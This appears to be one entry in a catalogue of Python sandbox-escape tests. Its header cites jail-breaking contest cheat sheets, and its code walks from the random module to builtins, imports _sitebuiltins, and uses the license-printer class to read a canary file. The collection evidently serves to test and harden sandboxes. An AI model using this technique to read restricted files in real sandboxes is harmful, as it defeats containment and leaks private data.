# id: site-printer-reads-file
# family: stdlib-reference-leak
# kind: information-leak
# invariant: G
# origin: cheat sheets of jail-breaking contests
# technique: the printer behind license and credits opens the files of a private list, and the guest can set that list
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits, interpreter
# fix: structural
# alive-when: canary

import random

printers = random._os.sys.modules["builtins"].__import__("_sitebuiltins")
printer = printers._Printer("name", "", ["canary.txt"], ["."])
print(printer)
